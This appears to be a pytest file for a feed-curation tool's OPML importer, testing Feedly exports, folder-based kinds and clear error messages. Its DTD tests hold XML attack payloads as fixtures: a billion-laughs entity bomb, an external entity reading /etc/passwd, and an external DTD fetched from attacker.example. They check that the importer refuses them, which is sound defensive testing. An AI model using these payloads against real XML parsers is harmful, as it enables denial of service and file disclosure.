"""OPML import: what Feedly and other readers export, with kinds from attributes, categories and
folder names; a bad file is one clear error."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from curation.db import connect
from curation.model import SourceKind
from curation.opml import OpmlError, import_opml, kind_of_name, read_opml
from curation.sources import list_sources
from graph.memory_store import MemoryStore

FEEDLY = Path(__file__).resolve().parents[2] / "fixtures" / "curation" / "feeds" / "feedly.opml"


def test_a_feedly_export_reads_with_kinds_from_folders_attributes_and_categories() -> None:
    opml = read_opml(FEEDLY)
    found = {(f.url, f.name, f.kind.value, f.weight) for f in opml.feeds}
    assert found == {
        ("https://vendor.example/atom.xml", "Vendor notes", "vendor", None),
        ("https://us.example/feed", "Our own blog", "ours", 3.0),
        ("https://brightpath.example/blog/feed/", "Brightpath blog", "company", None),
        ("https://tagged.example/rss", "Tagged vendor", "vendor", None),
        ("https://plain.example/rss", "Plain", "company", None),
    }
    assert any("listed more than once" in n for n in opml.notes)
    assert any("'Not a web feed' skipped" in n for n in opml.notes)


def test_import_saves_sources_and_writes_source_nodes(tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "graph.sqlite")
    with connect(tmp_path / "curation.sqlite") as db:
        first = import_opml(db, store, FEEDLY, data_dir=tmp_path)
        again = import_opml(db, store, FEEDLY, data_dir=tmp_path)
        assert (len(first.added), len(first.updated)) == (5, 0)
        assert (len(again.added), len(again.updated)) == (0, 5)  # re-import: harmless
        assert len(list_sources(db)) == 5
    assert store.existing("Source", ["https://vendor.example/atom.xml",
                                     "https://us.example/feed"]) == {
        "https://vendor.example/atom.xml", "https://us.example/feed"}
    assert store.counts().nodes.get("Source") == 5
    store.close()


@pytest.mark.parametrize(("text", "message"), [
    ("", "the file is empty"),
    ("<opml><body><outline", "not an OPML file: XML error at line 1"),
    ("<rss version='2.0'><channel/></rss>", "the root element is <rss>, not <opml> (is it a "
                                            "feed rather than a reader's export?)"),
    ("<opml version='2.0'><head/></opml>", "has no <body>"),
    ("<opml><body><outline text='Empty folder'/></body></opml>",
     "no feed to import (1 outline(s) but none with an xmlUrl)"),
    ("<opml><body/></opml>", "no feed to import (no outline)"),
    ("<opml><body><outline xmlUrl='javascript:x'/></body></opml>", "no feed to import"),
    ('<!DOCTYPE x [<!ENTITY a "aaaa">]><opml><body/></opml>',
     "OPML files may not declare a DOCTYPE or entities"),
])
def test_a_bad_opml_file_is_one_clear_error(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "bad.opml"
    path.write_text(text)
    with pytest.raises(OpmlError) as caught:
        read_opml(path)
    assert message in str(caught.value) and str(path) in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_missing_file_is_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(OpmlError, match="cannot read it"):
        read_opml(tmp_path / "nope.opml")


def test_a_bad_kind_attribute_skips_that_outline(tmp_path: Path) -> None:
    path = tmp_path / "k.opml"
    path.write_text("<opml><body><outline text='x' xmlUrl='https://x.example/f' "
                    "relgraphKind='partner'/><outline text='y' xmlUrl='https://y.example/f'/>"
                    "</body></opml>")
    opml = read_opml(path)
    assert [f.url for f in opml.feeds] == ["https://y.example/f"]
    assert "kind 'partner'" in opml.notes[0]


def test_nested_folders_the_nearest_kind_wins(tmp_path: Path) -> None:
    path = tmp_path / "n.opml"
    path.write_text("<opml><body><outline text='Vendors'><outline text='Ours'>"
                    "<outline text='a' xmlUrl='https://a.example/f'/></outline>"
                    "<outline text='Misc'><outline text='b' xmlUrl='https://b.example/f'/>"
                    "</outline></outline></body></opml>")
    assert [(f.url, f.kind) for f in read_opml(path).feeds] == [
        ("https://a.example/f", SourceKind.OURS), ("https://b.example/f", SourceKind.VENDOR)]


@pytest.mark.parametrize(("name", "kind"), [
    ("Vendors", SourceKind.VENDOR), ("From the vendors", SourceKind.VENDOR),
    ("Companies and pontificators", SourceKind.COMPANY), ("Ours", SourceKind.OURS),
    ("from us", SourceKind.OURS), ("Our blog", SourceKind.OURS), ("Marketing", None),
    ("Customers", None), (None, None),
])
def test_kind_of_name(name: str | None, kind: SourceKind | None) -> None:
    assert kind_of_name(name) == kind


# --- a DTD is refused in every encoding ---------------------------------------------------------

LAUGHS = ('<!DOCTYPE opml [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10))
          + ']><opml version="2.0"><head><title>&lol9;</title></head><body>'
          '<outline text="&lol9;" xmlUrl="https://a.example/feed"/></body></opml>')
EXTERNAL = ('<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><opml version="2.0">'
            '<head><title>&xxe;</title></head><body>'
            '<outline text="x" xmlUrl="https://a.example/feed"/></body></opml>')
EXTERNAL_DTD = ('<!DOCTYPE opml SYSTEM "http://attacker.example/opml.dtd"><opml version="2.0">'
                '<body><outline text="x" xmlUrl="https://a.example/feed"/></body></opml>')
GOOD = ('<opml version="2.0"><head><title>Café feeds</title></head><body>'
        '<outline text="Anbieter und Vendors"><outline text="Zoë\u2019s blog" '
        'xmlUrl="https://zoe.example/feed"/></outline></body></opml>')
# (id, codec, byte-order mark, the name in the XML declaration)
ENCODINGS = [
    ("utf-8", "utf-8", b"", "UTF-8"),
    ("utf-8-bom", "utf-8", codecs.BOM_UTF8, "UTF-8"),
    ("utf-16-le-bom", "utf-16-le", codecs.BOM_UTF16_LE, "UTF-16"),
    ("utf-16-be-bom", "utf-16-be", codecs.BOM_UTF16_BE, "UTF-16"),
    ("utf-16-be", "utf-16-be", b"", "UTF-16"),
    ("utf-32-le-bom", "utf-32-le", codecs.BOM_UTF32_LE, "UTF-32"),
    ("utf-32-be-bom", "utf-32-be", codecs.BOM_UTF32_BE, "UTF-32"),
    ("utf-32-le", "utf-32-le", b"", "UTF-32"),
]


def encoded(text: str, codec: str, bom: bytes, declared: str) -> bytes:
    return bom + f'<?xml version="1.0" encoding="{declared}"?>\n{text}'.encode(codec)


@pytest.mark.parametrize(("codec", "bom", "declared"), [e[1:] for e in ENCODINGS],
                         ids=[e[0] for e in ENCODINGS])
@pytest.mark.parametrize("payload", [LAUGHS, EXTERNAL, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "external-dtd"])
def test_a_dtd_is_refused_in_every_encoding(tmp_path: Path, payload: str, codec: str,
                                            bom: bytes, declared: str) -> None:
    """The old check looked for the bytes `<!ENTITY`, which UTF-16 and UTF-32 spell otherwise:
    the parser's own check on the decoded document refuses the DOCTYPE, before any entity."""
    path = tmp_path / "evil.opml"
    path.write_bytes(encoded(payload, codec, bom, declared))
    with connect(tmp_path / "curation.sqlite") as db, pytest.raises(OpmlError) as caught:
        import_opml(db, MemoryStore(tmp_path / "graph.sqlite"), path, data_dir=tmp_path)
    assert str(caught.value) == (f"{path}: OPML files may not declare a DOCTYPE or entities "
                                 "(no reader's export does); refused")
    with connect(tmp_path / "curation.sqlite") as db:
        assert list_sources(db) == []


def test_a_bare_doctype_is_refused_too(tmp_path: Path) -> None:
    path = tmp_path / "doctype.opml"
    path.write_text('<!DOCTYPE opml><opml><body><outline xmlUrl="https://a.example/f"/>'
                    "</body></opml>")
    with pytest.raises(OpmlError, match="may not declare a DOCTYPE or entities"):
        read_opml(path)


@pytest.mark.parametrize(("codec", "bom", "declared"), [e[1:] for e in ENCODINGS],
                         ids=[e[0] for e in ENCODINGS])
def test_a_normal_opml_imports_in_every_encoding(tmp_path: Path, codec: str, bom: bytes,
                                                 declared: str) -> None:
    path = tmp_path / "feeds.opml"
    path.write_bytes(encoded(GOOD, codec, bom, declared))
    store = MemoryStore(tmp_path / "graph.sqlite")
    with connect(tmp_path / "curation.sqlite") as db:
        result = import_opml(db, store, path, data_dir=tmp_path)
    assert [(s.url, s.name, s.kind) for s in result.added] == [
        ("https://zoe.example/feed", "Zoë\u2019s blog", SourceKind.VENDOR)]
    store.close()


def test_broken_utf32_is_one_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "broken.opml"
    path.write_bytes(codecs.BOM_UTF32_LE + "<opml><body/></opml>".encode("utf-32-le")[:-2])
    with pytest.raises(OpmlError, match="not an OPML file: broken UTF-32"):
        read_opml(path)
